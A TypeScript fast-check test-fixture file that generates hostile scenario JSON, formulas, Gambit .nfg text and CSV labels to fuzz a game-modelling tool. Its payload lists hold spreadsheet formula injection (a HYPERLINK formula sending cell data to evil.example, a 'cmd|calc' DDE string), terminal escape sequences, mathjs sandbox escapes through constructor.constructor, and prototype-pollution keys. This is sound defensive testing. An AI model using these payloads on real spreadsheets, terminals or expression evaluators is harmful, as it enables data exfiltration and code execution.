// fast-check arbitraries of hostile input (issue 10): scenario JSON text that is valid-ish in structure but hostile in
// its names, labels, formulas and distributions; hostile formulas on their own; hostile Gambit .nfg text; hostile
// labels for the CSV writer. Used by tests/hostile/generated.test.ts with a fixed seed. Each arbitrary mixes known
// attack payloads (the audit's classes) with random text, so shrinking lands on a readable counterexample.
import fc from 'fast-check';
import { coordinationScenario } from './coordinationScenario';

/** A global the generated payloads try to read, write or call: a test asserts it is never touched. */
export const SENTINEL = '__parleySentinel';

/** Names on Object.prototype and on functions/arrays: ids that once fell through to the prototype. */
export const PROTO_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__lookupSetter__',
  'prototype',
  'length',
  'name',
  'call',
  'apply',
  'bind',
] as const;

const ESC = '\u001b';

/** Characters a terminal or a spreadsheet obeys, and characters that look like others. */
export const HOSTILE_CHARS = [
  '\u0000',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  ESC,
  '\u007f',
  '\u0085',
  '\u009b',
  '\u00a0',
  '\u00ad',
  '\u061c',
  '\u200b',
  '\u200e',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\u2069',
  '\ufeff',
  '\ud800',
  '\udc00',
  '\u{1f600}',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\ufe66',
  '=',
  '+',
  '-',
  '@',
  '"',
  "'",
  ',',
  '\\',
  ' ',
  '{',
  '}',
  '.',
  '/',
  '1',
  'a',
];

/** Whole hostile strings: escape sequences, forged lines, formula injection, value-like and huge text. */
export const HOSTILE_STRINGS = [
  `${ESC}]0;pwned\u0007`,
  `${ESC}[2J${ESC}[3J${ESC}[H`,
  '\nforged.parley.json: OK — "Fine": 2 actors',
  '\r\u001b[2Kok',
  '\u202eevil\u202c.json',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '\uff1dcmd|calc',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b-2+3',
  '\t=1',
  '\r=1',
  '@SUM(1)',
  '+1+1',
  '-5',
  '-0.25',
  '1e-7',
  '1:1',
  '2025-07',
  '50%',
  'TRUE',
  '"quoted"',
  'a,b',
  '',
  ' ',
  'x'.repeat(199),
  'x'.repeat(201),
  'é'.repeat(300),
  'x'.repeat(20_001),
  ...PROTO_NAMES,
];

/** Any text a file could carry: known payloads, random hostile characters, random Unicode, and their mixes. */
export const hostileString = (): fc.Arbitrary<string> => {
  const chars = fc.string({ unit: fc.constantFrom(...HOSTILE_CHARS), maxLength: 12 });
  const base = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 3, arbitrary: chars },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
    { weight: 1, arbitrary: fc.string({ maxLength: 10 }) },
  );
  return fc.oneof(
    { weight: 4, arbitrary: base },
    { weight: 1, arbitrary: fc.tuple(base, base).map(([a, b]) => a + b) },
  );
};

/** Ids: mostly valid identifiers (so checking goes deep), prototype names, and invalid or hostile text. */
export const hostileId = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.stringMatching(/^[A-Za-z][A-Za-z0-9_]{0,6}$/) },
    { weight: 3, arbitrary: fc.constantFrom(...PROTO_NAMES) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('a', 'P', 'Q', 'up', 'left', 'round', 'month', 'pi', 'e', 'x'.repeat(65)),
    },
    { weight: 2, arbitrary: hostileString() },
  );

/** Attempts to escape the formula language (mathjs): definitions, assignment, import, evaluation, prototype walks. */
export const FORMULA_ATTACKS = [
  `${SENTINEL}`,
  `${SENTINEL} = 1`,
  `${SENTINEL}()`,
  `f(x) = ${SENTINEL}`,
  'f(x) = x; f(1)',
  'a = 1',
  'a.b = 1',
  `import({"${SENTINEL}": 1}, {override: true})`,
  `evaluate("${SENTINEL} = 1")`,
  `parse("${SENTINEL}")`,
  `compile("${SENTINEL}").evaluate()`,
  'createUnit("pwn")',
  'simplify("x")',
  'derivative("x^2", "x")',
  'config({number: "BigNumber"})',
  `constructor.constructor("globalThis.${SENTINEL} = 1")()`,
  `toString.constructor("globalThis.${SENTINEL} = 1")()`,
  `[].map.constructor("globalThis.${SENTINEL} = 1")()`,
  `"".constructor.constructor("globalThis.${SENTINEL} = 1")()`,
  `cos.constructor("globalThis.${SENTINEL} = 1")()`,
  `P.constructor.constructor("globalThis.${SENTINEL} = 1")()`,
  '__proto__.polluted = 1',
  'P.__proto__',
  'P["__proto__"]',
  'a["constructor"]',
  '{a: 1}.a',
  '[1, 2][1]',
  'x -> x',
  '1:3',
  '"\u001b]0;pwned\u0007"',
  '"\nforged.parley.json: OK"',
  '"=HYPERLINK(1)"',
  "'single'",
  '1e308 * 10',
  '1e999',
  '5e-99154',
  '9'.repeat(400),
  '0x1F',
  '0b101',
  '1 / 0',
  'log(0)',
  'sqrt(-1)',
  '0 ^ -1',
  '2 ^ 1e6',
  'a ? 1 : 2',
  'a ? ',
  '',
  ' ',
  ';',
  '1; 2',
  '\uff1d1',
  'a\u202e + 1',
  'a\u0000',
  '((((',
  '))',
  '(1',
];

const FUNCTIONS = [
  'min',
  'max',
  'abs',
  'exp',
  'log',
  'sqrt',
  'clamp',
  'ifelse',
  'pow',
  'nope',
  'evaluate',
  'import',
];
const OPERATORS = [
  ' + ',
  ' - ',
  ' * ',
  ' / ',
  ' ^ ',
  ' == ',
  ' < ',
  ' and ',
  ' or ',
  ' ? ',
  ' : ',
  '',
  ' = ',
];

/** Formula text: generated expressions over known, unknown and prototype names, attacks, and deep nesting. */
export const hostileFormula = (): fc.Arbitrary<string> => {
  const leaf = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom('a', 'P.up', 'Q.left', 'round', 'month', '1', '0', '-1', '2.5') },
    { weight: 2, arbitrary: fc.constantFrom(...PROTO_NAMES, 'P.constructor', 'Q.toString', 'unknownName') },
    {
      weight: 2,
      arbitrary: fc.constantFrom('1e308', '1e-308', '5e-324', '1e999', '123456789012345678901234567890'),
    },
    { weight: 1, arbitrary: hostileString().map((s) => JSON.stringify(s)) },
    { weight: 1, arbitrary: fc.double().map(String) },
  );
  const { expr } = fc.letrec<{ expr: string }>((tie) => ({
    expr: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      leaf,
      fc.tuple(tie('expr'), fc.constantFrom(...OPERATORS), tie('expr')).map(([l, o, r]) => `${l}${o}${r}`),
      fc
        .tuple(fc.constantFrom(...FUNCTIONS), fc.array(tie('expr'), { maxLength: 3 }))
        .map(([f, args]) => `${f}(${args.join(', ')})`),
      tie('expr').map((e) => `(${e})`),
    ),
  }));
  const deep = fc
    .tuple(fc.integer({ min: 1, max: 400 }), fc.constantFrom('(', 'abs(', '-', 'not ', 'min(1, '))
    .map(([n, open]) => `${open.repeat(n)}1${open.endsWith('(') ? ')'.repeat(n) : ''}`);
  const long = fc
    .tuple(fc.integer({ min: 100, max: 1100 }), fc.constantFrom('a + ', '1*', 'P.up + ', 'zz + '))
    .map(([n, piece]) => `${piece.repeat(n)}1`);
  return fc.oneof(
    { weight: 4, arbitrary: expr },
    { weight: 3, arbitrary: fc.constantFrom(...FORMULA_ATTACKS) },
    { weight: 1, arbitrary: deep },
    { weight: 1, arbitrary: long },
    {
      weight: 1,
      arbitrary: fc.tuple(fc.constantFrom(...FORMULA_ATTACKS), expr).map(([a, e]) => `${e} + ${a}`),
    },
  );
};

/**
 * A JSON number written as raw text in the file (1e999 is Infinity to JSON.parse, -0, 5e-324, 1e-400…), carried
 * through JSON.stringify as a marker string and put back by rawNumbers().
 */
const RAW = '\u0001RAW:';
const rawNumber = (text: string): string => `${RAW}${text}\u0001`;
const rawNumbers = (json: string): string => json.replace(/"\\u0001RAW:([^\\"]*)\\u0001"/g, '$1');

/** A number as a file could hold it: ordinary, extreme, subnormal, beyond double range, or not a number at all. */
export const hostileNumber = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(0, 1, 2, -1, 0.5, 4, 10, 100) },
    { weight: 2, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom('1e999', '-1e999', '-0', '5e-324', '1e-400', '1e308', '123456789012345678901234567890')
        .map(rawNumber),
    },
    { weight: 1, arbitrary: fc.constantFrom<unknown>('1', null, true, [], {}, '1 to 2') },
  );

/** Uncertainty entries: every distribution type with hostile parameters, shorthands, unknown types and keys. */
export const hostileDistribution = (): fc.Arbitrary<unknown> => {
  const n = hostileNumber();
  const typed = fc
    .tuple(
      fc.constantFrom(
        'fixed',
        'uniform',
        'normal',
        'lognormal',
        'triangular',
        'pert',
        'beta',
        'bernoulli',
        'discrete',
        'interval90',
        'cauchy',
        '__proto__',
        'constructor',
      ),
      fc.record(
        {
          value: n,
          min: n,
          max: n,
          mean: n,
          sd: n,
          mu: n,
          sigma: n,
          mode: n,
          lambda: n,
          alpha: n,
          beta: n,
          p: n,
          low: n,
          high: n,
          values: fc.array(n, { maxLength: 5 }),
          weights: fc.array(n, { maxLength: 5 }),
        },
        { requiredKeys: [] },
      ),
    )
    .map(([type, fields]) => ({ type, ...fields }));
  const shorthand = fc.oneof(
    fc
      .tuple(
        fc.constantFrom('0', '1', '-1', '1e999', '1e-400', '2', 'NaN', '0.5'),
        fc.constantFrom('1', '3', '0', '1e308', '-2'),
      )
      .map(([a, b]) => `${a} to ${b}`),
    hostileString(),
  );
  return fc.oneof({ weight: 3, arbitrary: typed }, { weight: 1, arbitrary: shorthand });
};

/** An object from [key, value] entries (own data properties, even "__proto__"), as JSON.parse would make. */
const entriesObject = <V>(entries: readonly (readonly [string, V])[]): Record<string, V> => {
  const o: Record<string, V> = {};
  for (const [k, v] of entries)
    Object.defineProperty(o, k, { value: v, enumerable: true, writable: true, configurable: true });
  return o;
};

const dict = <V>(
  key: fc.Arbitrary<string>,
  value: fc.Arbitrary<V>,
  maxLength = 3,
): fc.Arbitrary<Record<string, V>> => fc.array(fc.tuple(key, value), { maxLength }).map(entriesObject);

const scenarioValue = (tame: boolean): fc.Arbitrary<Record<string, unknown>> => {
  // Tame: valid ids (prototype names included), labels of 1..200 characters and ordinary numbers, so that the file
  // passes the schema and its hostile formulas, names and distributions reach the compiler and the range analysis.
  const id = tame
    ? fc.oneof(
        fc.stringMatching(/^[A-Za-z][A-Za-z0-9_]{0,6}$/),
        fc.constantFrom(...PROTO_NAMES.filter((n) => /^[A-Za-z]/.test(n))),
      )
    : hostileId();
  const text = tame ? hostileString().filter((t) => t.length >= 1 && t.length <= 200) : hostileString();
  const num = tame ? fc.constantFrom(0, 1, 2, 4, 0.5) : hostileNumber();
  const formula = tame
    ? fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom('a', '1', 'P.up', 'a + 1', 'min(a, 2)') },
        { weight: 1, arbitrary: hostileFormula() },
      )
    : fc.oneof({ weight: 5, arbitrary: hostileFormula() }, { weight: 1, arbitrary: num });
  const strategy = fc.record({ id, label: text });
  const actor = fc
    .tuple(
      id,
      text,
      fc.array(strategy, { minLength: 1, maxLength: 3 }),
      fc.array(formula, { maxLength: 4 }),
      fc.option(
        fc.oneof(
          fc.constant({ model: 'nash' }),
          fc.record({ model: fc.constant('fixed'), strategy: id }),
          fc.record({
            model: fc.constant('mixed'),
            probabilities: dict(id, tame ? fc.constantFrom(0, 0.5, 1) : hostileNumber()),
          }),
          fc.record({ model: fc.constant('logit'), lambda: num }),
        ),
        { nil: undefined },
      ),
      fc.option(fc.array(fc.record({ profile: dict(id, id), payoff: formula }), { maxLength: 2 }), {
        nil: undefined,
      }),
      fc.array(id, { maxLength: 2 }),
    )
    .map(([aid, name, strategies, payoffs, behaviour, overrides, extra]) => {
      // Payoff keys: the strategies' ids in order (so the actor is usually complete), then extra (unknown) keys.
      const keys = [...strategies.map((s) => s.id), ...extra];
      const entries = payoffs.map((f, i) => [keys[i % keys.length] as string, f] as const);
      const a: Record<string, unknown> = { id: aid, name, strategies, payoffs: entriesObject(entries) };
      if (behaviour) a.behaviour = behaviour;
      if (overrides) a.overrides = overrides;
      return a;
    });
  const parameter = fc.record(
    {
      label: text,
      default: num,
      min: tame ? fc.constant(0) : num,
      max: tame ? fc.constant(4) : num,
      uncertainty: tame
        ? fc.constantFrom<unknown>(
            '1 to 3',
            '0 to 2',
            { type: 'uniform', min: 0, max: 4 },
            { type: 'normal', mean: 2, sd: 1 },
            { type: 'discrete', values: [0, 4] },
            { type: 'beta', alpha: 2, beta: 2, min: 0, max: 4 },
          )
        : hostileDistribution(),
      step: tame ? fc.constant(1) : num,
    },
    { requiredKeys: ['label', 'default', 'min', 'max'] },
  );
  const scenario = fc.record(
    {
      format: fc.oneof(
        { weight: tame ? 1000 : 8, arbitrary: fc.constant('parley.scenario/1') },
        { weight: 1, arbitrary: fc.constantFrom('parley.scenario/0', 'parley.scenario/2', '') },
        { weight: 1, arbitrary: text },
      ),
      id: tame ? fc.constant('hostile') : fc.oneof(fc.constantFrom('hostile', 'a-b'), text),
      title: text,
      summary: tame ? text.map((t) => t.slice(0, 300)) : text,
      tags: fc.array(tame ? text.map((t) => t.slice(0, 40)) : text, { maxLength: 3 }),
      parameters: dict(id, parameter),
      derived: dict(id, fc.oneof(formula, fc.record({ label: text, value: formula }))),
      state: dict(
        id,
        fc.record(
          { label: text, initial: formula, update: formula, min: num, max: num },
          { requiredKeys: ['label', 'initial'] },
        ),
      ),
      correlations: fc.array(fc.record({ a: id, b: id, rho: tame ? fc.constantFrom(0, 0.5, -1) : num }), {
        maxLength: 2,
      }),
      rounds: fc.record({
        count: tame ? fc.constantFrom(1, 2, 3) : fc.oneof(fc.constantFrom(1, 2, 12), num),
      }),
      actors: fc.array(actor, { minLength: 1, maxLength: 3 }),
      equilibrium: fc.constantFrom(
        'payoff-dominant',
        'risk-dominant',
        'random',
        'first',
        'logit-limit',
        'toString',
      ),
      events: fc.array(fc.record({ id, label: text, probability: formula, effects: dict(id, formula, 2) }), {
        maxLength: 2,
      }),
      outcomes: dict(id, fc.record({ label: text, when: formula })),
      metrics: dict(id, fc.record({ label: text, value: formula })),
    },
    { requiredKeys: ['format', 'title', 'actors'] },
  );
  if (tame) return scenario;
  return fc
    .tuple(scenario, dict(hostileString(), fc.jsonValue({ maxDepth: 2 }), 2))
    .map(([s, extra]) => Object.assign(entriesObject(Object.entries(extra)), s));
};

/** A scenario as JSON text: the format's structure, filled with hostile names, labels, formulas and distributions. */
export const hostileScenarioText = (): fc.Arbitrary<string> => {
  const json = fc.oneof(scenarioValue(true), scenarioValue(false)).map((s) => rawNumbers(JSON.stringify(s)));
  return fc.oneof(
    { weight: 8, arbitrary: json },
    // Structural damage: a truncated file, a duplicate key, a BOM, a bare value, junk after the object.
    {
      weight: 1,
      arbitrary: fc.tuple(json, fc.nat()).map(([t, cut]) => t.slice(0, cut % (t.length + 1))),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          json,
          fc.constantFrom('"title":"dup",', '"__proto__":{"polluted":1},', '"actors":[],', '"\\u0000":1,'),
        )
        .map(([t, dup]) => `{${dup}${t.slice(1)}`),
    },
    { weight: 1, arbitrary: json.map((t) => `\ufeff${t}`) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('', 'null', '[]', '"text"', '1e999', '{', '{}', '{"a":1}x', '\u0000'),
    },
  );
};

/** A scenario whose every formula is the one given (payoffs, derived, metric, outcome, state): formulas in place. */
export const scenarioWithFormula = (formula: string): string =>
  JSON.stringify({
    ...coordinationScenario('Formula', formula, formula),
    parameters: { a: { label: 'A', default: 2, min: 0, max: 4, uncertainty: '1 to 3' } },
    rounds: { count: 2 },
    derived: { d: formula },
    state: { s: { label: 'S', initial: '1', update: formula } },
    events: [{ id: 'ev', label: 'Ev', probability: formula, effects: { s: formula } }],
    outcomes: { o: { label: 'O', when: formula } },
    metrics: { m: { label: 'M', value: formula } },
  });

/** A string as a Gambit .nfg string literal ("…" with \" and \\ escaped). */
export const nfgString = (s: string): string => `"${s.replace(/[\\"]/g, (c) => `\\${c}`)}"`;

/** Payoff words of a .nfg file: ordinary, exact fractions, huge or tiny beyond the digits limit, and garbage. */
export const nfgPayoff = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.integer({ min: -9, max: 9 }).map(String) },
    {
      weight: 2,
      arbitrary: fc.constantFrom('1/3', '-2/7', '0.5', '1.25', '1e3', '-0', '+3', '1e-39', '0/5'),
    },
    {
      weight: 2,
      arbitrary: fc.oneof(
        fc.integer({ min: 35, max: 45 }).map((n) => '9'.repeat(n)),
        fc.integer({ min: 35, max: 10_000 }).map((n) => `1/${'7'.repeat(n)}`),
        fc.constantFrom(
          '5e-99154',
          '1e400',
          '1e-41',
          '1e999999999',
          '1e-99999999999999999999',
          `${'1'.repeat(41)}`,
        ),
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom('x', 'NaN', 'Infinity', '1/0', '--1', '1e', '.', '1/-2', '\u0000', '１'),
    },
  );

/** Hostile .nfg text: payoff-list and outcome-list forms with hostile labels and payoffs, often damaged. */
export const hostileNfgText = (): fc.Arbitrary<string> => {
  const label = hostileString();
  const players = fc.array(label, { minLength: 1, maxLength: 3 });
  const payoffList = fc
    .tuple(
      label,
      players,
      fc.array(fc.integer({ min: 1, max: 3 }), { minLength: 1, maxLength: 3 }),
      fc.array(fc.array(label, { minLength: 1, maxLength: 3 }), { minLength: 1, maxLength: 3 }),
      fc.boolean(),
      fc.array(nfgPayoff(), { maxLength: 60 }),
      fc.nat(),
    )
    .map(([title, ps, counts, labels, useLabels, words, drop]) => {
      const n = ps.length;
      const strategies = useLabels
        ? `{ ${Array.from({ length: n }, (_, p) => `{ ${(labels[p % labels.length] ?? ['x']).map(nfgString).join(' ')} }`).join(' ')} }`
        : `{ ${Array.from({ length: n }, (_, p) => counts[p % counts.length]).join(' ')} }`;
      const sizes = useLabels
        ? Array.from({ length: n }, (_, p) => (labels[p % labels.length] ?? ['x']).length)
        : Array.from({ length: n }, (_, p) => counts[p % counts.length] as number);
      // Usually exactly the payoffs the game needs (from the generated words, recycled), sometimes a few fewer.
      const need = sizes.reduce((a, b) => a * b, 1) * n;
      const pool = words.length ? words : ['1'];
      const body = Array.from({ length: need }, (_, i) => pool[i % pool.length]);
      const cut = drop % 7 === 0 ? (drop % 3) + 1 : 0;
      return `NFG 1 R ${nfgString(title)} { ${ps.map(nfgString).join(' ')} }\n${strategies}\n\n${body.slice(0, need - cut).join(' ')}\n`;
    });
  const outcomeList = fc
    .tuple(
      label,
      fc.array(fc.tuple(label, nfgPayoff(), nfgPayoff()), { minLength: 1, maxLength: 4 }),
      fc.array(fc.nat(5), { minLength: 4, maxLength: 5 }),
    )
    .map(
      ([title, outcomes, idx]) =>
        `NFG 1 R ${nfgString(title)} { "A" "B" } { 2 2 }\n{\n${outcomes.map(([l, x, y]) => `{ ${nfgString(l)} ${x} ${y} }`).join('\n')}\n}\n${idx.join(' ')}\n`,
    );
  const game = fc.oneof({ weight: 3, arbitrary: payoffList }, { weight: 1, arbitrary: outcomeList });
  return fc.oneof(
    { weight: 6, arbitrary: game },
    { weight: 2, arbitrary: fc.tuple(game, fc.nat()).map(([t, cut]) => t.slice(0, cut % (t.length + 1))) },
    { weight: 1, arbitrary: game.map((t) => t.replace(/\n/g, '\r\n')) },
    {
      weight: 1,
      arbitrary: fc.string({
        unit: fc.constantFrom('{', '}', '"', '\\', ' ', '\n', 'N', 'F', 'G', '1', 'R'),
        maxLength: 40,
      }),
    },
  );
};
